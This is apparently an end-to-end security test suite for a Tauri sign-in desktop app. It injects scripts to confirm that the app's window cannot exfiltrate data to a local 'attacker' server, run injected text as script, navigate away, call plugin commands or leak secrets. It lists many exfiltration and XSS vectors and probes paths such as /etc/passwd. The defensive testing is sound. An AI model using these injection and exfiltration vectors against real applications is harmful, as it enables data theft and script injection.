import assert from "node:assert/strict";
import { once } from "node:events";
import { readdirSync, readFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import type { WebDriver } from "selenium-webdriver";
import { journey } from "../harness/journey";
import { ROOT } from "../harness/paths";
import { waitFor } from "../harness/processes";
import { secretsIn } from "../harness/secrets";
import type { Harness } from "../harness/harness";

// What a script could do that got into the window, by whichever hole: each thing is tried from inside,
// with the driver in the hole's place. The driver's own scripts are run in the page, but not by the
// page's policy: so what a policy forbids is tried through the page's own document as well.

/** A server that an attacker has: it notes who comes, and serves the page of the control. */
class Attacker {
  readonly visits: string[] = [];
  readonly #server: Server;

  private constructor() {
    this.#server = createServer((request, response) => {
      const path = (request.url ?? "").split("?")[0] ?? "";
      this.visits.push(path);
      response.setHeader("access-control-allow-origin", "*");
      const kind = path.endsWith(".js") ? "text/javascript" : "text/html";
      response.setHeader("content-type", kind);
      response.end(path.endsWith(".js") ? "" : "<!doctype html><title>open</title><body>");
    });
    // A WebSocket's handshake is a visit too.
    this.#server.on("upgrade", (request, socket) => {
      this.visits.push(request.url ?? "");
      socket.destroy();
    });
  }

  static async start(): Promise<Attacker> {
    const attacker = new Attacker();
    attacker.#server.listen(0, "127.0.0.1");
    await once(attacker.#server, "listening");
    return attacker;
  }

  get address(): string {
    return `http://127.0.0.1:${String((this.#server.address() as AddressInfo).port)}`;
  }

  stop(): void {
    this.#server.close();
    this.#server.closeAllConnections();
  }
}

/** A journey with an attacker's server at hand. */
function attack(name: string, play: (harness: Harness, attacker: Attacker) => Promise<void>): void {
  journey(name, async (harness) => {
    const attacker = await Attacker.start();
    try {
      await play(harness, attacker);
    } finally {
      attacker.stop();
    }
  });
}

/** Ways to reach a server without leaving the page. `to` is the server's address for each. */
const REQUESTS: Record<string, string> = {
  fetch: "fetch(to)",
  "fetch without CORS": "fetch(to, { mode: 'no-cors', method: 'POST', body: 'x' })",
  XMLHttpRequest: "const r = new XMLHttpRequest(); r.open('GET', to); r.send()",
  sendBeacon: "navigator.sendBeacon(to, 'x')",
  EventSource: "new EventSource(to)",
  WebSocket: "new WebSocket(to.replace('http', 'ws'))",
  "dynamic import": "import(to + '.js')",
  Image: "new Image().src = to",
  Audio: "new Audio(to).load()",
  "script element": "add('script', { src: to + '.js' })",
  "module script": "add('script', { type: 'module', src: to + '.js' })",
  "img element": "add('img', { src: to })",
  "img srcset": "add('img', { srcset: to })",
  "svg image":
    "const s = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); document.body.append(s);" +
    "const i = document.createElementNS('http://www.w3.org/2000/svg', 'image');" +
    "i.setAttribute('href', to); s.append(i)",
  "video poster": "add('video', { poster: to })",
  stylesheet: "add('link', { rel: 'stylesheet', href: to })",
  preload: "add('link', { rel: 'preload', as: 'fetch', crossOrigin: 'anonymous', href: to })",
  modulepreload: "add('link', { rel: 'modulepreload', href: to + '.js' })",
  iframe: "add('iframe', { src: to })",
  "frame with a document of its own": "add('iframe', { srcdoc: `<img src='${to}'>` })",
  object: "add('object', { data: to })",
  embed: "add('embed', { src: to })",
  "background of an element": "add('div', { textContent: 'x' }).style.background = `url(${to})`",
  "background in a style sheet": "add('style', { textContent: `body { background: url(${to}) }` })",
  "import in a style sheet": "add('style', { textContent: `@import url(${to})` })",
  "markup with an image": "document.body.insertAdjacentHTML('beforeend', `<img src='${to}'>`)",
  "form into a frame":
    "add('iframe', { name: 'sink' }); const f = add('form', { action: to, method: 'post', target: 'sink' }); f.submit()",
  "frame of a script address": "add('iframe', { src: `javascript:fetch('${to}')` })",
  "worker of a blob":
    "new Worker(URL.createObjectURL(new Blob([`fetch('${to}')`], { type: 'text/javascript' })))",
};

/** What makes a request in a browser of its own kind alone, or only from a page of the same origin. */
const ALSO: Record<string, string> = {
  prefetch: "add('link', { rel: 'prefetch', href: to })",
  "dns-prefetch": "add('link', { rel: 'dns-prefetch', href: to })",
  preconnect: "add('link', { rel: 'preconnect', href: to })",
  Worker: "new Worker(to + '.js')",
  SharedWorker: "new SharedWorker(to + '.js')",
  "service worker": "navigator.serviceWorker.register(to + '.js')",
  "worker of a data address": "new Worker(`data:text/javascript,fetch('${to}')`)",
  manifest: "add('link', { rel: 'manifest', href: to })",
  icon: "add('link', { rel: 'icon', href: to })",
  WebRTC:
    "new RTCPeerConnection({ iceServers: [{ urls: to.replace('http://', 'stun:').replace(/\\/[^/]*$/, '') }] }).createDataChannel('x')",
  "policy taken off": "document.querySelector('meta[http-equiv]')?.remove(); fetch(to)",
  "base of another place": "add('base', { href: to }); add('img', { src: 'picture' })",
};

/** Ways to leave the page. */
const WAYS_OUT: Record<string, string> = {
  "location =": "location = to",
  "location.replace": "location.replace(to)",
  "window.open": "window.open(to)",
  "window.open here": "window.open(to, '_self')",
  "window.open above": "window.open(to, '_top')",
  "a link": "add('a', { href: to }).click()",
  "a link to a new window": "add('a', { href: to, target: '_blank' }).click()",
  "a link with a ping": "add('a', { href: '#', ping: to }).click()",
  "a form": "add('form', { action: to }).submit()",
  "a form to a new window":
    "add('form', { action: to, method: 'post', target: '_blank' }).submit()",
  "a refresh": "add('meta', { httpEquiv: 'refresh', content: `0;url=${to}` })",
  "a document written anew":
    "document.head.insertAdjacentHTML('beforeend', `<meta http-equiv=refresh content='0;url=${to}'>`)",
};

/** Ways to have text run as a script. Each would set `broken`. */
const INLINE: Record<string, string> = {
  eval: "try { eval(run) } catch { }",
  "new Function": "try { new Function(run)() } catch { }",
  "the constructor of a constructor": "try { [].at.constructor(run)() } catch { }",
  "a timer's text": "try { setTimeout(run, 0) } catch { }",
  "script element": "add('script', { textContent: run })",
  "module script": "add('script', { type: 'module', textContent: run })",
  "script of a blob":
    "add('script', { src: URL.createObjectURL(new Blob([run], { type: 'text/javascript' })) })",
  "script of a data address": "add('script', { src: 'data:text/javascript,' + run })",
  "import of a data address": "import('data:text/javascript,' + run).catch(() => undefined)",
  "onclick attribute": "const b = add('button'); b.setAttribute('onclick', run); b.click()",
  "onerror attribute":
    "document.body.insertAdjacentHTML('beforeend', `<img src='data:,' onerror='${run}'>`)",
  "ontoggle attribute":
    "document.body.insertAdjacentHTML('beforeend', `<details open ontoggle='${run}'>x</details>`)",
  "a link to a script": "add('a', { href: 'javascript:' + run }).click()",
  "location = a script": "location = 'javascript:' + run",
  "frame of a script": "add('iframe', { src: 'javascript:parent.' + run })",
  "frame with a document of its own": "add('iframe', { srcdoc: `<script>parent.${run}</script>` })",
};

/** What each of these scripts has at hand. */
const BESIDE = `
  const add = (name, what = {}) => {
    const element = Object.assign(document.createElement(name), what);
    if (name === "object") element.data = what.data;
    (["link", "meta", "base", "style"].includes(name) ? document.head : document.body).append(element);
    return element;
  };`;

/** Runs one of them. What it throws is the wall. */
async function tryIn(page: WebDriver, script: string, to = ""): Promise<void> {
  await page
    .executeScript(
      `const [to] = arguments; const run = "top.broken = true"; ${BESIDE}
       try { const done = (() => { ${script} })(); done?.catch?.(() => undefined); } catch { }`,
      to,
    )
    // A script that leaves the page takes the driver's answer with it.
    .catch(() => undefined);
}

const AWHILE = 1_500;
const wait = (milliseconds: number) => new Promise((go) => setTimeout(go, milliseconds));
const nameIn = (address: string) => address.replace(/[^a-z]+/gi, "-");

/** The browser's own tab, with the attacker's page, which has no policy of its own. */
async function openPage({ browser, desktop }: Harness, attacker: Attacker): Promise<WebDriver> {
  await desktop.openUrl(`${attacker.address}/page`);
  return browser.waitForTab(`${attacker.address}/page`);
}

/** The app is where it was, with its one window. */
async function isAtHome({ app, desktop }: Harness, state = "signed-out"): Promise<void> {
  assert.match(await app.window.getCurrentUrl(), /^tauri:\/\/localhost\/?(index\.html)?#?$/);
  assert.equal((await app.window.getAllWindowHandles()).length, 1);
  const windows = (await desktop.run("wmctrl", ["-l"])).split("\n");
  assert.equal(windows.filter((line) => line.includes("Sign in with Amiqus")).length, 1);
  assert.equal(await app.bodyData("data-state"), state);
}

// Shows checks 37 and 38.
attack(
  "no script in the window reaches any server but through the core",
  async (harness, attacker) => {
    const { app } = harness;
    await app.start();
    await app.waitForState("signed-out");
    for (const [name, script] of Object.entries({ ...REQUESTS, ...ALSO })) {
      await tryIn(app.window, script, `${attacker.address}/${nameIn(name)}`);
    }
    await wait(AWHILE);
    assert.deepEqual(attacker.visits, []);
    await isAtHome(harness);

    // The same, in a page that nothing protects: each of them gets there.
    const page = await openPage(harness, attacker);
    for (const [name, script] of Object.entries(REQUESTS)) {
      await tryIn(page, script, `${attacker.address}/${nameIn(name)}`);
    }
    const missing = () =>
      Object.keys(REQUESTS).filter(
        (name) => !attacker.visits.some((visit) => visit.startsWith(`/${nameIn(name)}`)),
      );
    await waitFor("all of them reach the attacker", () => missing().length === 0, 5_000).catch(
      () => undefined,
    );
    assert.deepEqual(missing(), []);
  },
);

// Shows check 38.
attack("no text becomes a script in the window", async (harness, attacker) => {
  const { app } = harness;
  const broken = async (page: WebDriver, script: string) => {
    await page.executeScript("window.broken = false");
    await tryIn(page, script);
    for (let look = 0; look < 5; look += 1) {
      await wait(60);
      if ((await page.executeScript("return window.broken")) === true) return true;
    }
    return false;
  };
  const whichBreak = async (page: WebDriver) => {
    const which: string[] = [];
    for (const [name, script] of Object.entries(INLINE)) {
      if (await broken(page, script)) which.push(name);
    }
    return which;
  };
  await app.start();
  await app.waitForState("signed-out");
  assert.deepEqual(await whichBreak(app.window), []);
  await isAtHome(harness);

  const page = await openPage(harness, attacker);
  assert.deepEqual(await whichBreak(page), Object.keys(INLINE));
});

// Shows checks 1 and 37.
attack("the window goes nowhere and opens nothing", async (harness, attacker) => {
  const { app, desktop } = harness;
  await app.start();
  await app.waitForState("signed-out");
  const secret = desktop.write("secret.html", "<title>secret</title>");
  const elsewhere = [
    `file://${secret}`,
    "data:text/html,<title>elsewhere</title>",
    "about:blank",
    "tauri://elsewhere/",
    "ipc://localhost/app_state",
    "asset://localhost/etc/passwd",
    "co.amiqus.signin://oauth/callback?code=made-up&state=made-up",
  ];
  for (const [name, script] of Object.entries(WAYS_OUT)) {
    await tryIn(app.window, script, `${attacker.address}/${nameIn(name)}`);
    await wait(80);
    await isAtHome(harness);
  }
  for (const address of elsewhere) {
    for (const way of ["location =", "a link", "window.open", "a link to a new window"]) {
      await tryIn(app.window, WAYS_OUT[way] ?? "", address);
      await wait(60);
      await isAtHome(harness);
    }
  }
  await tryIn(app.window, "history.back(); history.go(-1); history.forward()");
  await wait(AWHILE);
  await isAtHome(harness);
  assert.deepEqual(attacker.visits, []);
  assert.equal((await harness.practice.requests("/oauth/authorize")).length, 0);

  const page = await openPage(harness, attacker);
  for (const [name, script] of Object.entries(WAYS_OUT)) {
    const path = `/${nameIn(name)}`;
    await page.get(`${attacker.address}/page`);
    await tryIn(page, script, attacker.address + path);
    // Chromium opens a new window for a click alone.
    if (/new window|^window\.open$/.test(name)) continue;
    await waitFor(`${name} leads there`, () => attacker.visits.includes(path), 5_000);
  }
});

/** Sends a command as the page's own scripts do; what the core answers, or why it refused. */
async function invoke(
  page: WebDriver,
  command: string,
  payload: unknown = {},
): Promise<{ answer?: unknown; refused?: unknown }> {
  return page.executeAsyncScript(
    `const [command, payload, done] = arguments;
     setTimeout(() => done({ refused: "no answer" }), 3_000);
     window.__TAURI_INTERNALS__.invoke(command, payload).then(
       (answer) => done({ answer }),
       (refused) => done({ refused }),
     );`,
    command,
    payload,
  );
}

/** Every plugin command that Tauri's own library for windows can send. */
function commandsOfTauri(): string[] {
  const folder = join(ROOT, "node_modules/@tauri-apps/api");
  const found = readdirSync(folder)
    .filter((name) => name.endsWith(".js"))
    .flatMap((name) => readFileSync(join(folder, name), "utf8").match(/plugin:[\w-]+\|\w+/g) ?? []);
  return [...new Set(found)];
}

/** And of plugins: of those that this app has in it, and of those that attackers wish for. */
const OF_PLUGINS = [
  ..."initialize destroy save create_client load_client get_store_record save_store_record remove_store_record save_secret remove_secret execute_procedure"
    .split(" ")
    .map((name) => `plugin:stronghold|${name}`),
  ..."get_current register unregister is_registered".split(" ").map((n) => `plugin:deep-link|${n}`),
  "plugin:single-instance|execute_callback",
  "plugin:opener|open_url",
  "plugin:opener|open_path",
  "plugin:opener|reveal_item_in_dir",
  "plugin:shell|open",
  "plugin:shell|execute",
  "plugin:shell|spawn",
  "plugin:fs|read_file",
  "plugin:fs|read_text_file",
  "plugin:fs|write_file",
  "plugin:fs|read_dir",
  "plugin:http|fetch",
  "plugin:dialog|open",
  "plugin:process|exit",
  "plugin:process|restart",
  "plugin:store|load",
  "plugin:updater|check",
  "plugin:updater|download_and_install",
  "plugin:clipboard-manager|read_text",
  "plugin:notification|notify",
  "plugin:os|hostname",
  "plugin:webview|internal_toggle_devtools",
  "plugin:event|listen",
];

/** Arguments with which a command would do something, were it allowed. */
const ARGUMENTS = {
  event: "deep-link://new-url",
  target: { kind: "Any" },
  handler: 1,
  eventId: 1,
  payload: "x",
  rid: 0,
  label: "main",
  value: true,
  options: { label: "another", url: "https://example.com" },
  url: "https://example.com",
  path: "/etc/passwd",
  directory: 1,
  protocol: "co.amiqus.signin",
  snapshotPath: "/tmp/vault.stronghold",
  password: "x",
  client: "sign-in-with-amiqus",
  key: [1],
  code: 0,
};

// Shows check 37.
journey(
  "no command of a plugin is the window's to send, the vault's least of all",
  async (harness) => {
    const { app } = harness;
    await app.start();
    await harness.signIn();
    const commands = [...new Set([...commandsOfTauri(), ...OF_PLUGINS])];
    assert.ok(commands.length > 150, String(commands.length));
    const allowed: string[] = [];
    for (const command of [...commands, "plugin:no-such|command"]) {
      const { refused } = await invoke(app.window, command, ARGUMENTS);
      // Refused for what it is, not for its arguments.
      if (!String(refused).includes("not allowed")) allowed.push(`${command}: ${String(refused)}`);
    }
    assert.deepEqual(allowed, []);
    await isAtHome(harness, "signed-in");
    const unknown = await invoke(app.window, "no_such_command");
    assert.match(String(unknown.refused), /not (allowed|found)/);
    // The same way, a command of the app's own is heard.
    const { answer } = await invoke(app.window, "app_state");
    assert.ok(JSON.stringify(answer).includes("Bob Gale"));

    // Past Tauri's own script, where the key that it keeps to itself is missing.
    const past = await app.window.executeAsyncScript<string[]>(`
    const done = arguments[arguments.length - 1];
    const tries = [{}, { "Tauri-Invoke-Key": "" }, { "Tauri-Invoke-Key": "guessed" }].map((headers) =>
      fetch("ipc://localhost/app_state", {
        method: "POST",
        body: "{}",
        headers: { "Content-Type": "application/json", "Tauri-Callback": "1", "Tauri-Error": "2", ...headers },
      }).then((response) => response.text(), String));
    window.webkit?.messageHandlers?.ipc?.postMessage(
      JSON.stringify({ cmd: "cancel", callback: 1, error: 2, payload: {}, options: {}, __TAURI_INVOKE_KEY__: "x" }));
    const noAnswer = new Promise((done) => setTimeout(done, 2_000, "no answer"));
    Promise.all(tries.map((tried) => Promise.race([tried, noAnswer]))).then(done);`);
    for (const answered of past) assert.ok(!answered.includes("Bob Gale"), answered);
    await isAtHome(harness, "signed-in");
  },
);

// Shows checks 39 and 40.
attack(
  "the app's own commands give nothing away, whatever they are told",
  async (harness, attacker) => {
    const { app, practice, desktop } = harness;
    await app.start();
    await app.waitForState("signed-out");
    const seen: unknown[] = [];
    const tell = async (command: string, payload?: unknown) => {
      const said = await invoke(app.window, command, payload);
      seen.push(said);
      return said;
    };
    /** A channel of one's own, as the window has one for the state. */
    await app.window.executeScript(`
    window.heard = [];
    const id = window.__TAURI_INTERNALS__.transformCallback((message) => window.heard.push(message));
    window.__TAURI_INTERNALS__.invoke("follow", { states: "__CHANNEL__:" + id });`);

    const opened = () =>
      desktop.processIds((command) => command.includes("chrom") || command.includes("xdg-open"));
    for (const page of [
      "https://example.com",
      "file:///etc/passwd",
      `${attacker.address}/`,
      "",
      1,
      null,
    ]) {
      const { refused } = await tell("open_page", { page });
      assert.match(String(refused), /invalid args/, String(page));
    }
    assert.deepEqual(opened(), [], "no browser opened");

    await harness.startSignIn();
    await harness.consentPage();
    const nonsense = [
      "",
      "nonsense",
      "co.amiqus.signin://oauth/callback?code=made-up&state=made-up",
      `${attacker.address}/?code=1&state=2`,
      "\u0000",
      `co.amiqus.signin://oauth/callback?code=${"9".repeat(5_000_000)}&state=1`,
    ];
    for (const address of nonsense) {
      const { refused } = await tell("exchange", { address });
      assert.ok(refused !== undefined, address.slice(0, 80));
    }
    await tell("exchange", { address: { href: "x" } });
    assert.equal(await practice.tokenRequests(), 0, "no code was posted");
    await app.waitForState("awaiting-browser");
    await harness.consent();
    await app.waitForState("signed-in");
    await app.waitForText("Bob Gale");

    const { answer } = await tell("app_state");
    const { current } = answer as { current: string };
    for (const account of ["", "another", "../..", `${current}0`, current.toUpperCase() + " "]) {
      assert.ok((await tell("sign_out", { account })).refused, account);
      assert.ok((await tell("switch_account", { account })).refused, account);
    }
    // What IT set up stays, and no other service is asked for anything: not even with the secret left
    // out, for which the one in force stands in.
    const draft = {
      client_id: practice.ready.client_id,
      client_secret: "",
      redirect_url: null,
      base_url: attacker.address,
      organisation: "Biff's",
      pkce: false,
    };
    for (const client_secret of ["", "guessed"]) {
      for (const command of ["check_registration", "save_registration"]) {
        const { refused } = await tell(command, { draft: { ...draft, client_secret } });
        assert.ok(refused !== undefined, command);
      }
    }
    await tell("change_setup");
    assert.ok((await tell("start_over")).refused);
    await tell("unlock", { passphrase: null });
    await tell("unlock", { passphrase: "a wrong passphrase" });
    await tell("choose_passphrase", { passphrase: "a passphrase of the attacker's" });
    for (const command of [
      "refresh",
      "me",
      "open_browser_again",
      "finish_sign_in",
      "forget_sign_in",
      "cancel",
      "authorize",
      "cancel",
    ]) {
      await tell(command);
    }
    for (const command of ["this_computer", "take_links_back", "save_report", "app_state"]) {
      await tell(command);
    }
    await tell("start_at_login", { on: "yes" });
    for (const fault of ["<script>", "drawing\nforged", { Drawing: "forged" }, 1, null]) {
      assert.ok((await tell("report_fault", { fault })).refused, JSON.stringify(fault));
    }
    assert.doesNotMatch(desktop.appLog(), /forged|page failed/);
    await app.waitForState("signed-in");
    await app.waitForText("Bob Gale");
    assert.deepEqual(attacker.visits, []);

    // All that came down, and all that the page holds; then the last secrets are learnt, by using them.
    const page = await app.window.executeScript(
      "return [window.heard, document.documentElement.outerHTML, document.cookie, { ...localStorage }]",
    );
    const given = JSON.stringify([seen, page]);
    assert.ok(
      given.includes("awaiting-browser") && given.includes("exchanging-code"),
      "it was heard",
    );
    const before = await practice.tokenRequests();
    await app.press("Renew now");
    await practice.waitForTokenRequests(before + 1);
    const secrets = await practice.secrets();
    assert.ok(secrets.length >= 8, String(secrets.length));
    assert.deepEqual(secretsIn(given, secrets), []);
    // The search finds what is there.
    assert.equal(secretsIn(`${given}${secrets[0] ?? ""}`, secrets).length, 1);
  },
);
